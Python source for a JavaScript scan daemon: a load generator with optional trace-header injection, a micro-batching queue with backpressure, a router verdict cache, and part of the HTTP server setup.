        """Latency at ``quantile`` (0–1) over successful requests."""
        samples = sorted(r.latency_ms for r in self.results if r.status == 200)
        if not samples:
            return float("nan")
        index = min(len(samples) - 1, max(0, round(quantile * (len(samples) - 1))))
        return samples[index]

    def summary(self) -> str:
        return (
            f"{self.requests} requests ({self.errors} errors) in {self.elapsed_s:.2f}s, "
            f"{self.throughput_rps:.1f} req/s @ c={self.concurrency}; latency ms "
            f"p50={self.latency_ms(0.50):.1f} p95={self.latency_ms(0.95):.1f} "
            f"p99={self.latency_ms(0.99):.1f}"
        )


def run_load(
    host: str,
    port: int,
    scripts: list[tuple[str, str]],
    concurrency: int = 8,
    repeats: int = 1,
    timeout_s: float = 60.0,
) -> LoadReport:
    """POST each ``(name, source)`` ``repeats`` times from worker threads.

    Work items are spread round-robin over ``concurrency`` threads; each
    thread reuses one keep-alive connection (reopening on error).  429/503
    responses count as errors in the report rather than raising, so
    backpressure behavior is measurable, not fatal.
    """
    work: list[tuple[str, str]] = [item for _ in range(repeats) for item in scripts]
    lanes: list[list[tuple[str, str]]] = [work[i::concurrency] for i in range(concurrency)]
    collected: list[list[LoadResult]] = [[] for _ in range(concurrency)]
    barrier = threading.Barrier(concurrency + 1)

    def worker(lane: int) -> None:
        connection = http.client.HTTPConnection(host, port, timeout=timeout_s)
        barrier.wait()
        for name, source in lanes[lane]:
            body = json.dumps({"source": source, "name": name})
            started = time.perf_counter()
            try:
                connection.request(
                    "POST", "/scan", body=body, headers={"Content-Type": "application/json"}
                )
                response = connection.getresponse()
                payload = response.read()
                status = response.status
            except (OSError, http.client.HTTPException):
                connection.close()
                connection = http.client.HTTPConnection(host, port, timeout=timeout_s)
                collected[lane].append(
                    LoadResult(name=name, status=0, latency_ms=1000.0 * (time.perf_counter() - started))
                )
                continue
            latency_ms = 1000.0 * (time.perf_counter() - started)
            result = LoadResult(name=name, status=status, latency_ms=latency_ms)
            if status == 200:
                try:
                    data = json.loads(payload)
                    result.verdict = data.get("verdict")
                    result.label = data.get("label")
                    result.probability = data.get("probability")
                except (ValueError, AttributeError):
                    result.status = 0
            collected[lane].append(result)
        connection.close()

    threads = [threading.Thread(target=worker, args=(lane,), daemon=True) for lane in range(concurrency)]
    for thread in threads:
        thread.start()
    barrier.wait()
    started = time.perf_counter()
    for thread in threads:
        thread.join()
    elapsed = time.perf_counter() - started

    results = [result for lane in collected for result in lane]
    return LoadReport(
        requests=len(results),
        errors=sum(1 for r in results if r.status != 200),
        elapsed_s=elapsed,
        concurrency=concurrency,
        results=results,
    )
