"""Stdlib load generator for the scan daemon.

Drives ``POST /scan`` with N concurrent worker threads (each holding one
keep-alive :class:`http.client.HTTPConnection`) and reports throughput,
latency percentiles (p50/p95/p99), and per-status-code counts.  Used
three ways:

* the bench harness's micro-batching-vs-per-request comparison,
* ad-hoc capacity checks against a running daemon,
* correctness under concurrency (every response carries its verdict, so
  callers can diff against one-shot scans).

``trace_ratio`` injects a generated W3C ``traceparent`` header (sampled)
into that fraction of requests — the knob for measuring tracing overhead
and for exercising ``/debug/traces`` under load.
"""

from __future__ import annotations

import http.client
import json
import os
import threading
import time
from collections import Counter
from dataclasses import dataclass, field


@dataclass
class LoadResult:
    """One request's outcome."""

    name: str
    status: int
    latency_ms: float
    verdict: str | None = None
    label: int | None = None
    probability: float | None = None
    #: The trace id this request was issued under (``trace_ratio`` hits)
    #: or echoed back via ``X-Trace-Id``; ``None`` for status-0 failures.
    trace_id: str | None = None
    #: True when the request carried an injected ``traceparent``.
    traced: bool = False


@dataclass
class LoadReport:
    """Aggregate of one load-generation run."""

    requests: int
    errors: int
    elapsed_s: float
    concurrency: int
    results: list[LoadResult] = field(repr=False, default_factory=list)

    @property
    def throughput_rps(self) -> float:
        return self.requests / self.elapsed_s if self.elapsed_s > 0 else 0.0

    @property
    def status_counts(self) -> dict[int, int]:
        """Requests per HTTP status code (0 = transport/parse failure)."""
        return dict(Counter(result.status for result in self.results))

    @property
    def traced_requests(self) -> int:
        return sum(1 for result in self.results if result.traced)

    def latency_ms(self, quantile: float) -> float:
        """Latency at ``quantile`` (0–1) over successful requests."""
        samples = sorted(r.latency_ms for r in self.results if r.status == 200)
        if not samples:
            return float("nan")
        index = min(len(samples) - 1, max(0, round(quantile * (len(samples) - 1))))
        return samples[index]

    def summary(self) -> str:
        by_status = " ".join(
            f"{status}:{count}" for status, count in sorted(self.status_counts.items())
        )
        line = (
            f"{self.requests} requests ({self.errors} errors) in {self.elapsed_s:.2f}s, "
            f"{self.throughput_rps:.1f} req/s @ c={self.concurrency}; latency ms "
            f"p50={self.latency_ms(0.50):.1f} p95={self.latency_ms(0.95):.1f} "
            f"p99={self.latency_ms(0.99):.1f}; status {by_status}"
        )
        if self.traced_requests:
            line += f"; traced {self.traced_requests}"
        return line


def run_load(
    host: str,
    port: int,
    scripts: list[tuple[str, str]],
    concurrency: int = 8,
    repeats: int = 1,
    timeout_s: float = 60.0,
    trace_ratio: float = 0.0,
) -> LoadReport:
    """POST each ``(name, source)`` ``repeats`` times from worker threads.

    Work items are spread round-robin over ``concurrency`` threads; each
    thread reuses one keep-alive connection (reopening on error).  429/503
    responses count as errors in the report rather than raising, so
    backpressure behavior is measurable, not fatal.  ``trace_ratio``
    (0–1) of each lane's requests carry a generated sampled
    ``traceparent`` header; the issued trace id is recorded on the result.
    """
    if not 0.0 <= trace_ratio <= 1.0:
        raise ValueError("trace_ratio must be within [0, 1]")
    work: list[tuple[str, str]] = [item for _ in range(repeats) for item in scripts]
    lanes: list[list[tuple[str, str]]] = [work[i::concurrency] for i in range(concurrency)]
    collected: list[list[LoadResult]] = [[] for _ in range(concurrency)]
    barrier = threading.Barrier(concurrency + 1)

    def worker(lane: int) -> None:
        connection = http.client.HTTPConnection(host, port, timeout=timeout_s)
        barrier.wait()
        for k, (name, source) in enumerate(lanes[lane]):
            body = json.dumps({"source": source, "name": name})
            headers = {"Content-Type": "application/json"}
            # Deterministic pacing: request k is traced iff the running
            # count of traced requests falls behind the target ratio.
            traced = int((k + 1) * trace_ratio) > int(k * trace_ratio)
            trace_id = None
            if traced:
                trace_id = os.urandom(16).hex()
                headers["traceparent"] = f"00-{trace_id}-{os.urandom(8).hex()}-01"
            started = time.perf_counter()
            try:
                connection.request("POST", "/scan", body=body, headers=headers)
                response = connection.getresponse()
                payload = response.read()
                status = response.status
                echoed = response.getheader("X-Trace-Id")
            except (OSError, http.client.HTTPException):
                connection.close()
                connection = http.client.HTTPConnection(host, port, timeout=timeout_s)
                collected[lane].append(
                    LoadResult(name=name, status=0, latency_ms=1000.0 * (time.perf_counter() - started),
                               trace_id=trace_id, traced=traced)
                )
                continue
            latency_ms = 1000.0 * (time.perf_counter() - started)
            result = LoadResult(name=name, status=status, latency_ms=latency_ms,
                                trace_id=trace_id or echoed, traced=traced)
            if status == 200:
                try:
                    data = json.loads(payload)
                    result.verdict = data.get("verdict")
                    result.label = data.get("label")
                    result.probability = data.get("probability")
                except (ValueError, AttributeError):
                    result.status = 0
            collected[lane].append(result)
        connection.close()

    threads = [threading.Thread(target=worker, args=(lane,), daemon=True) for lane in range(concurrency)]
    for thread in threads:
        thread.start()
    barrier.wait()
    started = time.perf_counter()
    for thread in threads:
        thread.join()
    elapsed = time.perf_counter() - started

    results = [result for lane in collected for result in lane]
    return LoadReport(
        requests=len(results),
        errors=sum(1 for r in results if r.status != 200),
        elapsed_s=elapsed,
        concurrency=concurrency,
        results=results,
    )
