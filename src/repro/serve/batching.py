"""Micro-batching queue between concurrent requests and the scan engine.

The pipeline's per-batch overhead (executor hop, feature transform, forest
dispatch — and pool startup when workers are enabled) is fixed, so ten
concurrent single-script requests cost far more dispatched individually
than coalesced into one :meth:`BatchScanner.scan` call.  The batcher:

* admits items into a bounded queue (:class:`QueueFull` is the server's
  429 signal; ``queue_limit`` is the *backlog* bound, batches already
  dispatched don't count),
* flushes on whichever comes first — ``max_batch`` items queued or
  ``max_wait_ms`` elapsed since the batch opened,
* dispatches one batch at a time to the scan callable in an executor
  thread (the scanner and its cache are not concurrency-safe; serializing
  batches also lets the queue refill while a batch runs, which is what
  makes the batching *adaptive* under load),
* resolves each item's future with its :class:`ScanResult` plus the
  enclosing :class:`ScanReport`,
* drains cleanly: :meth:`drain` stops admission (:class:`Draining`) and
  waits until every admitted item has been answered.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable

if TYPE_CHECKING:  # pragma: no cover
    from concurrent.futures import Executor

    from repro.obs import MetricsRegistry
    from repro.pipeline import ScanReport


class QueueFull(Exception):
    """Backlog at ``queue_limit``; the server answers 429 + Retry-After."""


class Draining(Exception):
    """Shutdown in progress; no new work is admitted (503)."""


@dataclass
class _Item:
    source: str
    name: str
    future: asyncio.Future = field(repr=False)
    enqueued_at: float = field(default_factory=time.perf_counter)
    #: Opaque per-item request context (e.g. ``{"trace": True}``); handed
    #: to the scan callable only when the batcher was built with
    #: ``pass_meta=True``.
    meta: dict = field(default_factory=dict)


class MicroBatcher:
    """Coalesce concurrent scan submissions into bounded batches.

    Args:
        scan: ``scan(sources, names) -> ScanReport``; runs in ``executor``.
        executor: Where ``scan`` executes (typically a single-thread pool —
            see the class docstring for why batches are serialized).
        max_batch: Flush threshold by count.
        max_wait_ms: Flush threshold by age of the oldest queued item.
        queue_limit: Maximum admitted-but-undispatched items.
        metrics: Optional registry for queue/batch/latency metrics.
        pass_meta: When ``True``, ``scan`` is called as
            ``scan(sources, names, metas)`` with one meta dict per item —
            how the server tells the scanner which batches carry traced
            requests.  Defaults to ``False`` (the 2-argument contract).
    """

    def __init__(
        self,
        scan: Callable[..., "ScanReport"],
        executor: "Executor",
        max_batch: int = 8,
        max_wait_ms: float = 25.0,
        queue_limit: int = 64,
        metrics: "MetricsRegistry | None" = None,
        pass_meta: bool = False,
    ):
        if max_batch < 1:
            raise ValueError("max_batch must be positive")
        if max_wait_ms < 0:
            raise ValueError("max_wait_ms must be non-negative")
        if queue_limit < 1:
            raise ValueError("queue_limit must be positive")
        self._scan = scan
        self._pass_meta = pass_meta
        self._executor = executor
        self.max_batch = max_batch
        self.max_wait_ms = max_wait_ms
        self.queue_limit = queue_limit
        self._queue: asyncio.Queue[_Item] = asyncio.Queue()
        self._pending = 0  # admitted, not yet dispatched
        self._outstanding: set[asyncio.Future] = set()  # admitted, not yet resolved
        self._draining = False
        self._task: asyncio.Task | None = None
        #: Sizes of every dispatched batch, oldest first (test/bench hook).
        self.batch_sizes: list[int] = []

        self._metrics = metrics
        if metrics is not None:
            from repro.obs.metrics import DEFAULT_SIZE_BUCKETS

            self._m_depth = metrics.gauge(
                "repro_serve_queue_depth", "Scripts admitted and awaiting dispatch"
            )
            self._m_batches = metrics.counter(
                "repro_serve_batches_total", "Micro-batches flushed to the scan engine"
            )
            self._m_batch_size = metrics.histogram(
                "repro_serve_batch_size_scripts", "Scripts per flushed micro-batch",
                buckets=DEFAULT_SIZE_BUCKETS,
            )
            self._m_queue_wait = metrics.histogram(
                "repro_serve_queue_wait_seconds", "Time from admission to dispatch"
            )
            self._m_rejected = metrics.counter(
                "repro_serve_rejected_total", "Submissions refused at admission",
                labels={"reason": "queue_full"},
            )
            self._m_rejected_draining = metrics.counter(
                "repro_serve_rejected_total", "Submissions refused at admission",
                labels={"reason": "draining"},
            )

    # ------------------------------------------------------------- lifecycle

    def start(self) -> None:
        """Spawn the flush loop on the running event loop."""
        if self._task is None:
            self._task = asyncio.get_running_loop().create_task(self._run())

    async def drain(self) -> None:
        """Refuse new work, answer everything already admitted, stop."""
        self._draining = True
        if self._outstanding:
            await asyncio.gather(*self._outstanding, return_exceptions=True)
        if self._task is not None:
            self._task.cancel()
            try:
                await self._task
            except asyncio.CancelledError:
                pass
            self._task = None

    @property
    def queue_depth(self) -> int:
        return self._pending

    # ------------------------------------------------------------- admission

    def submit(self, source: str, name: str, meta: dict | None = None) -> asyncio.Future:
        """Admit one script; the future resolves to ``(ScanResult, ScanReport)``."""
        if self._draining:
            if self._metrics is not None:
                self._m_rejected_draining.inc()
            raise Draining("server is draining")
        if self._pending >= self.queue_limit:
            if self._metrics is not None:
                self._m_rejected.inc()
            raise QueueFull(f"scan queue at limit ({self.queue_limit})")
        future = asyncio.get_running_loop().create_future()
        self._pending += 1
        self._outstanding.add(future)
        future.add_done_callback(self._outstanding.discard)
        self._queue.put_nowait(_Item(source=source, name=name, future=future, meta=meta or {}))
        if self._metrics is not None:
            self._m_depth.set(self._pending)
        return future

    # ------------------------------------------------------------ flush loop

    async def _run(self) -> None:
        loop = asyncio.get_running_loop()
        while True:
            batch = [await self._queue.get()]
            deadline = loop.time() + self.max_wait_ms / 1000.0
            while len(batch) < self.max_batch:
                remaining = deadline - loop.time()
                if remaining <= 0:
                    break
                try:
                    batch.append(await asyncio.wait_for(self._queue.get(), remaining))
                except asyncio.TimeoutError:
                    break
            await self._dispatch(batch)

    async def _dispatch(self, batch: list[_Item]) -> None:
        self._pending -= len(batch)
        if self._metrics is not None:
            self._m_depth.set(self._pending)
            self._m_batches.inc()
            self._m_batch_size.observe(len(batch))
            now = time.perf_counter()
            for item in batch:
                self._m_queue_wait.observe(now - item.enqueued_at)
        self.batch_sizes.append(len(batch))

        loop = asyncio.get_running_loop()
        sources = [item.source for item in batch]
        names = [item.name for item in batch]
        args = (sources, names, [item.meta for item in batch]) if self._pass_meta else (sources, names)
        try:
            report = await loop.run_in_executor(self._executor, self._scan, *args)
        except Exception as error:
            for item in batch:
                if not item.future.done():
                    item.future.set_exception(error)
            return
        for item, result in zip(batch, report.results):
            if not item.future.done():  # timed-out waiters already gave up
                item.future.set_result((result, report))
