"""Router-side LRU cache of hot scan verdicts.

The shards already cache *embeddings* (content-addressed, memory +
disk); this layer caches whole *verdicts* at the front door, so content
the cluster has just answered short-circuits before any shard fan-out —
no forward, no queue wait, no GIL.  Real scan traffic repeats heavily
(the same few library scripts are re-submitted from everywhere), which
is exactly the shape an LRU wins on.

A verdict is a pure function of ``(script content, model, scan
options)``, so the cache key is ``(content SHA-256, model epoch, scan
options)`` — the epoch is the router's own reload counter, bumped by
``/v1/admin/reload``, so a model roll invalidates every cached verdict
at once (the entries of the old epoch simply stop being reachable and
age out of the LRU).  Entries remember which shard answered, so cache
hits replay the same ``X-Shard`` attribution the consistent-hash
placement would produce.

Only successful (200) single-scan and batch-item verdicts are cached:
errors are transient routing state, not content facts.
"""

from __future__ import annotations

from collections import OrderedDict
from threading import Lock
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover
    from repro.obs import MetricsRegistry


class VerdictCache:
    """Bounded LRU from (content key, epoch, options) to a verdict dict.

    ``capacity=0`` disables the cache entirely (every lookup is a
    ``bypass``).  Thread-safe: the router's event loop owns it today,
    but ``BackgroundCluster`` tests poke it cross-thread.
    """

    def __init__(self, capacity: int = 1024, metrics: "MetricsRegistry | None" = None):
        if capacity < 0:
            raise ValueError("capacity must be >= 0")
        self.capacity = capacity
        self.epoch = 0  # bumped by admin reloads; part of every key
        self._entries: OrderedDict[tuple, tuple[dict, str]] = OrderedDict()
        self._lock = Lock()
        self._m = None
        if metrics is not None:
            self._m = {
                result: metrics.counter(
                    "repro_router_cache_total",
                    "Router verdict-cache lookups by result",
                    labels={"result": result},
                )
                for result in ("hit", "miss", "bypass")
            }

    def __len__(self) -> int:
        return len(self._entries)

    def _count(self, result: str) -> None:
        if self._m is not None:
            self._m[result].inc()

    def _key(self, content_key: str, options: tuple) -> tuple:
        return (content_key, self.epoch, options)

    def get(self, content_key: str, options: tuple) -> tuple[dict, str] | None:
        """The cached ``(verdict data, shard id)`` for this content under
        the current epoch, or ``None``."""
        if self.capacity == 0:
            self._count("bypass")
            return None
        key = self._key(content_key, options)
        with self._lock:
            entry = self._entries.get(key)
            if entry is None:
                self._count("miss")
                return None
            self._entries.move_to_end(key)
        self._count("hit")
        return entry

    def put(self, content_key: str, options: tuple, data: dict, shard_id: str) -> None:
        if self.capacity == 0:
            return
        key = self._key(content_key, options)
        with self._lock:
            self._entries[key] = (data, shard_id)
            self._entries.move_to_end(key)
            while len(self._entries) > self.capacity:
                self._entries.popitem(last=False)

    def bump_epoch(self) -> int:
        """Model epoch changed (``/v1/admin/reload``): every key under the
        old epoch becomes unreachable.  Entries are dropped eagerly so the
        memory is reclaimed immediately, not via LRU churn."""
        with self._lock:
            self.epoch += 1
            self._entries.clear()
            return self.epoch
