"""The scan daemon: model loaded once, shared by every connection.

``ScanServer`` glues the pieces together: hand-rolled HTTP/1.1 framing
(:mod:`repro.serve.http`), the micro-batching queue
(:mod:`repro.serve.batching`), the existing
:class:`~repro.pipeline.BatchScanner` + :class:`~repro.pipeline.FeatureCache`
(one of each, shared by all clients), and the
:class:`~repro.obs.MetricsRegistry` observability layer.

Endpoints (mounted under ``/v1``; see API.md for the envelope contract —
the bare legacy paths remain as deprecation aliases)::

    POST /v1/scan        {"source": str, "name"?: str, "threshold"?: float}
                         → 200 envelope, data = ScanResult object
    POST /v1/scan/batch  {"scripts": [{"source": str, "name"?: str} | str, ...],
                          "threshold"?: float}
                         → 200 envelope, data = {"results": [...], ...}
    POST /v1/analyze     {"source": str, "name"?: str}
                         → 200 envelope, data = AnalysisReport (static
                           analysis only; no model, no micro-batch queue)
    POST /v1/admin/reload {"model_dir": str}
                         → 200 envelope; the model is loaded off-thread and
                           swapped in atomically between micro-batches
                           (zero-downtime reload; bumps the epoch)
    GET  /v1/healthz     → 200 envelope: status, fingerprint, epoch, pid
    GET  /v1/version     → 200 envelope: service, version, config
    GET  /v1/metrics     → 200 Prometheus text exposition (unwrapped —
                           the one non-envelope endpoint, by design)
    GET  /v1/debug/traces[/<id>] → 200 envelope: retained span trees

Failure semantics (the backpressure contract):

* malformed body / missing fields → **400** with ``{"error": {...}}``,
* body larger than ``max_body_bytes`` → **413** before the body is read,
* queue at ``queue_limit`` → **429** with a ``Retry-After`` header,
* request older than ``request_timeout_s`` or server draining → **503**,
* circuit breaker open (sustained worker deaths) → **503** +
  ``Retry-After`` until the half-open probe succeeds (DESIGN.md §9),
* SIGTERM/SIGINT → stop accepting, answer everything admitted, exit 0.
"""

from __future__ import annotations

import asyncio
import contextlib
import math
import os
import signal
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import TYPE_CHECKING

from repro.analysis import Analyzer
from repro.faults import CircuitBreaker, QuarantineJournal, ScanLimits
from repro.obs import (
    MetricsRegistry,
    SamplingProfiler,
    SpanContext,
    TraceStore,
    Tracer,
    get_logger,
)
from repro.pipeline import BatchScanner, FeatureCache

from .api import (
    deprecation_headers,
    is_legacy_alias,
    protocol_error_response,
    split_api_path,
    v1_error_response,
    v1_response,
)
from .batching import Draining, MicroBatcher, QueueFull
from .http import (
    MAX_BODY_BYTES,
    ProtocolError,
    Request,
    error_response,
    json_response,
    read_request,
    render_response,
    trace_list_query,
)

if TYPE_CHECKING:  # pragma: no cover
    from repro.core.detector import JSRevealer


@dataclass
class ServeConfig:
    """Daemon knobs; mirrors the ``repro serve`` CLI flags."""

    host: str = "127.0.0.1"
    port: int = 8077  # 0 = ephemeral (tests/benches read .bound_port)
    n_workers: int = 1  # BatchScanner pool size; 1 = in-process sequential
    max_batch: int = 8
    max_wait_ms: float = 25.0
    queue_limit: int = 64
    cache_dir: str | None = None
    cache_entries: int = 4096
    threshold: float = 0.5  # default verdict threshold
    request_timeout_s: float = 30.0
    retry_after_s: int = 1  # advertised on 429
    # Fault isolation (repro.faults): any of the three limits being set
    # routes every scan through the isolated worker pool.
    timeout_s: float | None = None  # per-script wall-clock deadline
    max_rss_mb: int | None = None  # per-worker memory headroom (RLIMIT_AS)
    max_cpu_s: float | None = None  # per-worker CPU cap (RLIMIT_CPU)
    quarantine_dir: str | None = None  # persist quarantine.jsonl here
    breaker_threshold: int = 5  # consecutive worker deaths that open it
    breaker_reset_s: float = 30.0  # open → half-open probe delay
    max_body_bytes: int = MAX_BODY_BYTES  # request body cap (413 above)
    # Tracing (repro.obs.trace): head-sampled per request; an inbound
    # ``traceparent`` with the sampled bit set always records.
    trace_sample_rate: float = 0.1
    trace_capacity: int = 256  # /debug/traces ring size
    trace_slow_ms: float = 250.0  # slow-scan retention threshold
    # Deobfuscation pre-pass default: requests may override per call with
    # a boolean ``"deobfuscate"`` field on /scan and /scan/batch bodies.
    deobfuscate: bool = False
    # Default sampling rate for GET /v1/debug/prof captures.
    profile_hz: float = 99.0

    def validate(self) -> None:
        if self.n_workers < 1:
            raise ValueError("n_workers must be positive")
        if self.max_batch < 1:
            raise ValueError("max_batch must be positive")
        if self.queue_limit < 1:
            raise ValueError("queue_limit must be positive")
        if self.request_timeout_s <= 0:
            raise ValueError("request_timeout_s must be positive")
        if self.breaker_threshold < 1:
            raise ValueError("breaker_threshold must be positive")
        if self.breaker_reset_s <= 0:
            raise ValueError("breaker_reset_s must be positive")
        if self.max_body_bytes < 1:
            raise ValueError("max_body_bytes must be positive")
        if not 0.0 <= self.trace_sample_rate <= 1.0:
            raise ValueError("trace_sample_rate must be within [0, 1]")
        if self.trace_capacity < 1:
            raise ValueError("trace_capacity must be positive")
        if self.profile_hz <= 0:
            raise ValueError("profile_hz must be positive")
        limits = self.scan_limits()
        if limits is not None:
            limits.validate()

    def scan_limits(self) -> ScanLimits | None:
        """The :class:`ScanLimits` this config implies; ``None`` if unset."""
        if self.timeout_s is None and self.max_rss_mb is None and self.max_cpu_s is None:
            return None
        return ScanLimits(
            timeout_s=self.timeout_s, max_rss_mb=self.max_rss_mb, max_cpu_s=self.max_cpu_s
        )


class ScanServer:
    """One loaded model behind an asyncio HTTP endpoint."""

    def __init__(
        self,
        detector: "JSRevealer",
        config: ServeConfig | None = None,
        metrics: MetricsRegistry | None = None,
    ):
        self.config = config or ServeConfig()
        self.config.validate()
        self.detector = detector
        self.metrics = metrics or MetricsRegistry()
        self.fingerprint = detector.fingerprint()

        self.cache = FeatureCache(
            self.fingerprint,
            max_entries=self.config.cache_entries,
            cache_dir=self.config.cache_dir,
            metrics=self.metrics,
        )
        limits = self.config.scan_limits()
        self.quarantine = (
            QuarantineJournal.in_dir(self.config.quarantine_dir)
            if self.config.quarantine_dir is not None
            else QuarantineJournal()
        )
        self.breaker = CircuitBreaker(
            failure_threshold=self.config.breaker_threshold,
            reset_timeout_s=self.config.breaker_reset_s,
            metrics=self.metrics,
        )
        # Per-request traces land in the bounded ring behind /debug/traces;
        # the scanner gets its own never-sampling tracer — batch traces are
        # recorded only when a traced request is waiting on the batch, then
        # grafted under each such request's root span.
        self.traces = TraceStore(
            capacity=self.config.trace_capacity, slow_ms=self.config.trace_slow_ms
        )
        self.tracer = Tracer(sample_rate=self.config.trace_sample_rate, sink=self.traces.put)
        self.log = get_logger("serve")
        # One scanner, one executor thread: scans serialize behind the
        # batcher, so the scanner (and its persistent pools, when workers
        # or isolation are enabled) is never entered concurrently.
        self.scanner = BatchScanner(
            detector,
            n_workers=self.config.n_workers,
            cache=self.cache,
            persistent=self.config.n_workers > 1 or (limits is not None and limits.active),
            metrics=self.metrics,
            limits=limits,
            quarantine=self.quarantine if limits is not None and limits.active else None,
            tracer=Tracer(sample_rate=0.0),
        )
        # Static analysis shares the metrics registry, so /metrics exposes
        # per-rule finding counters next to the scan histograms.
        self.analyzer = Analyzer(metrics=self.metrics)
        # The deobfuscation engine is model-independent and always built:
        # requests can opt in per call even when the server default is
        # off, and building it here pre-registers every
        # ``repro_deobfuscate_*`` series on /metrics at zero.
        from repro.deobfuscate import Deobfuscator

        self.deobfuscator = Deobfuscator(limits=limits, metrics=self.metrics)
        self._executor = ThreadPoolExecutor(max_workers=1, thread_name_prefix="repro-scan")
        self.batcher = MicroBatcher(
            self._scan_batch,
            executor=self._executor,
            max_batch=self.config.max_batch,
            max_wait_ms=self.config.max_wait_ms,
            queue_limit=self.config.queue_limit,
            metrics=self.metrics,
            pass_meta=True,
        )
        self._server: asyncio.AbstractServer | None = None
        self.bound_port: int | None = None
        self.started_at = time.time()
        #: Model epoch: 0 for the boot model, +1 per successful
        #: ``POST /v1/admin/reload``.  The supervisor's rolling reload
        #: watches this (plus the fingerprint) to confirm a shard rolled.
        self.epoch = 0

        self._m_requests: dict[tuple[str, str, int], object] = {}
        self._m_deprecated: dict[str, object] = {}
        self._m_reloads = self.metrics.counter(
            "repro_model_reloads_total", "Successful zero-downtime model reloads"
        )
        self._m_epoch = self.metrics.gauge(
            "repro_model_epoch", "Model epoch (0 = boot model, +1 per reload)"
        )
        self._m_epoch.set(0)
        self._m_latency = self.metrics.histogram(
            "repro_http_request_seconds", "Wall-clock per HTTP request"
        )
        import platform

        from repro import __version__

        self.metrics.gauge(
            "repro_build_info",
            "Constant 1; the labels carry the build/runtime identity",
            labels={"version": __version__, "python": platform.python_version()},
        ).set(1)
        self._m_uptime = self.metrics.gauge(
            "repro_uptime_seconds", "Seconds since the server started"
        )
        self.profiler = SamplingProfiler(hz=self.config.profile_hz)

    # The executor-side entry point; wrapped so tests/benches can stub it.
    def _scan_batch(self, sources: list[str], names: list[str], metas: list[dict] | None = None):
        # One traced request in the micro-batch is enough to record the
        # whole batch's spans (they are grafted into every traced waiter).
        want_trace = any(meta.get("trace") for meta in metas or [])
        # Deobfuscation is per *request* while the scan is per micro-batch,
        # so flagged sources are normalized here — before the scanner, so
        # its cache keys on the normalized text — and the reports are
        # re-attached to the matching results after.  The engine never
        # raises; clean scripts come back verbatim.
        norm_reports: list = [None] * len(sources)
        if metas and any(meta.get("deobfuscate") for meta in metas):
            sources = list(sources)
            for i, meta in enumerate(metas):
                if not meta.get("deobfuscate"):
                    continue
                normalized, norm_report = self.deobfuscator.normalize(
                    sources[i], name=str(names[i])
                )
                sources[i] = normalized
                if norm_report.interesting:
                    norm_reports[i] = norm_report
        try:
            report = self.scanner.scan(
                sources,
                names=names,
                threshold=self.config.threshold,
                trace=True if want_trace else None,
            )
        except Exception:
            self.breaker.record_failure()
            raise
        for i, norm_report in enumerate(norm_reports):
            if norm_report is None or i >= len(report.results):
                continue
            result = report.results[i]
            result.normalization = norm_report.to_dict()
            if result.trace is not None:
                result.trace.setdefault("provenance", {})[
                    "normalization"
                ] = norm_report.to_dict()
        # Each *fresh* fault cost one worker (known-quarantined scripts are
        # answered without dispatching, so they don't count); a clean batch
        # closes the breaker again.  Thread-safe: we are on the single
        # executor thread, the breaker is read from the event loop.
        deaths = sum(
            1
            for result in report.results
            if result.faulted and not (result.fault or {}).get("known")
        )
        if deaths:
            self.breaker.record_failure(deaths)
        else:
            self.breaker.record_success()
        return report

    # ------------------------------------------------------------- lifecycle

    async def start(self) -> None:
        self.batcher.start()
        self._server = await asyncio.start_server(
            self._on_connection, host=self.config.host, port=self.config.port
        )
        self.bound_port = self._server.sockets[0].getsockname()[1]

    async def stop(self, drain: bool = True) -> None:
        """Stop accepting, optionally answer all admitted work, tear down."""
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
            self._server = None
        if drain:
            await self.batcher.drain()
        self.scanner.close()
        self._executor.shutdown(wait=True)

    async def run_until_signaled(self, signals=(signal.SIGTERM, signal.SIGINT)) -> None:
        """Serve until SIGTERM/SIGINT, then drain in-flight work and return."""
        loop = asyncio.get_running_loop()
        stop_event = asyncio.Event()
        for signum in signals:
            loop.add_signal_handler(signum, stop_event.set)
        try:
            await self.start()
            print(
                f"repro.serve listening on http://{self.config.host}:{self.bound_port} "
                f"(workers={self.config.n_workers}, max_batch={self.config.max_batch}, "
                f"max_wait_ms={self.config.max_wait_ms:g}, queue_limit={self.config.queue_limit})",
                file=sys.stderr,
                flush=True,
            )
            await stop_event.wait()
            print("repro.serve draining…", file=sys.stderr, flush=True)
        finally:
            for signum in signals:
                loop.remove_signal_handler(signum)
            await self.stop(drain=True)

    # ----------------------------------------------------------- connections

    async def _on_connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                try:
                    request = await read_request(reader, self.config.max_body_bytes)
                except ProtocolError as error:
                    writer.write(protocol_error_response(error))
                    await writer.drain()
                    break
                except (asyncio.IncompleteReadError, ConnectionError):
                    break
                if request is None:
                    break
                started = time.perf_counter()
                response, keep_alive = await self._route(request)
                self._m_latency.observe(
                    time.perf_counter() - started, trace_id=request.trace_id_hint
                )
                writer.write(response)
                await writer.drain()
                if not keep_alive or not request.keep_alive:
                    break
        except (ConnectionError, asyncio.CancelledError):
            pass
        finally:
            with contextlib.suppress(Exception):
                writer.close()
                await writer.wait_closed()

    def _count_request(self, method: str, path: str, status: int) -> None:
        key = (method, path, status)
        counter = self._m_requests.get(key)
        if counter is None:
            counter = self.metrics.counter(
                "repro_http_requests_total",
                "HTTP requests by method, path, and status",
                labels={"method": method, "path": path, "status": str(status)},
            )
            self._m_requests[key] = counter
        counter.inc()

    def _count_deprecated(self, path: str) -> None:
        counter = self._m_deprecated.get(path)
        if counter is None:
            counter = self.metrics.counter(
                "repro_http_deprecated_requests_total",
                "Requests on unprefixed legacy paths (deprecation aliases of /v1)",
                labels={"path": path},
            )
            self._m_deprecated[path] = counter
        counter.inc()

    # ------------------------------------------------------------- rendering
    #
    # Every handler produces a *payload* (a JSON-able dict) and the routing
    # layer renders it per API surface: the v1 envelope under /v1, the
    # byte-identical v0 body on the legacy aliases.  Error paths flow
    # through the same split — one semantic error, two renderings.

    def _request_trace_id(self, request: Request) -> str | None:
        parent = SpanContext.parse(request.traceparent)
        return parent.trace_id if parent is not None else None

    def _ok(
        self,
        request: Request,
        payload: dict,
        trace_id: str | None = None,
        extra_headers: dict[str, str] | None = None,
        status: int = 200,
    ) -> tuple[int, bytes]:
        if request.api == "v1":
            return status, v1_response(status, payload, trace_id=trace_id, extra_headers=extra_headers)
